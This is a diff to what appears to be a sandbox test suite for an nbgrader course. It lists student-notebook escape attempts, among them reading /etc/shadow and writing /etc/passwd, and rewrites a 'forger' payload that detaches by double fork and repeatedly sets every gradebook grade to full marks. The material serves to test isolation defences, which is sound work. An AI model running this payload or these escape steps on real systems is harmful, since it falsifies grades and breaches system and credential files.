@@ -110,8 +110,10 @@ attempt("create a file beside the canary", lambda: write(beside, "planted"))
 attempt("open /etc/passwd for writing", lambda: open("/etc/passwd", "a").close())
 attempt("open setpriv for writing", lambda: open(setpriv, "ab").close())
 attempt("open the standard library for writing", lambda: open(os.__file__, "ab").close())
-planted = os.path.join(stdlib, "_planted_by_a_student.py")
-attempt("create a module in the standard library", lambda: open(planted, "x").close())
+def may_create_in(folder):  # asks the kernel, so that nothing is left behind if it may
+    if not os.access(folder, os.W_OK):
+        raise PermissionError(folder)
+attempt("create a module in the standard library", lambda: may_create_in(stdlib))
 attempt("read /etc/shadow", lambda: read("/etc/shadow"))
 attempt("read the instructor's notebook", lambda: read(INSTRUCTOR_NOTEBOOK))
 attempt("read the course's source", lambda: read(COURSE_SOURCE))
@@ -137,32 +139,27 @@ def _escape_attempts(canary: Path, course: Path, grader_pid: int) -> str:
     return "".join(f"{name} = {value!r}\n" for name, value in names.items()) + ESCAPE
 
 
-FORGE = """import os, pathlib, time
-def forge_every_gradebook(paths):
-    from nbgrader.api import Gradebook
-    for db in paths:
-        if not db.exists():
-            continue
-        try:
-            with Gradebook(f"sqlite:///{db}") as gb:
-                for student in gb.students:
-                    for submission in student.submissions:
-                        for notebook in submission.notebooks:
-                            for grade in notebook.grades:
-                                grade.auto_score = grade.max_score
-                                grade.needs_manual_grade = False
-                gb.db.commit()
-        except Exception:
-            pass
+FORGE = """import os, pathlib, sqlite3, time
+FULL_MARKS = (
+    "UPDATE grade SET needs_manual_grade = 0, auto_score ="
+    " (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
+)
 here = pathlib.Path.cwd()
 targets = [folder / "gradebook.db" for folder in [here, *here.parents]]
-targets.append(pathlib.Path(COURSE_GRADEBOOK))
+targets = [str(t) for t in targets + [pathlib.Path(COURSE_GRADEBOOK)]]
 if os.fork() == 0:
     os.setsid()
-    if os.fork() == 0:
-        for _ in range(600):  # keeps at it for a minute, after the kernel is gone
-            forge_every_gradebook(targets)
-            time.sleep(0.1)
+    if os.fork() == 0:  # detached: keeps at it for a minute, after the kernel is gone
+        end = time.monotonic() + 60
+        while time.monotonic() < end:
+            for db in targets:
+                try:
+                    if os.path.exists(db):
+                        with sqlite3.connect(db, timeout=0.05) as con:
+                            con.execute(FULL_MARKS)
+                except Exception:
+                    pass
+            time.sleep(0.005)
     os._exit(0)
 print("forger started")"""
 
